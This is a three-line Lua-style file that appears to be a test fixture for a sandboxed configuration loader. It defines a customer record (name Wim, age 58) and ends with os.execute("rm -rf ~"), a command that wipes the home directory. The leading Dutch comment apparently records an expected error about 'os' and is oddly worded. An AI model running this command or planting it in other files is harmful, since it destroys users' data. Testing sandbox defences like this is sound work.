-- fout: 3 remedy.word.near os
klant { naam = "Wim", uiterlijk = { leeftijd = 58 } }
os.execute("rm -rf ~")
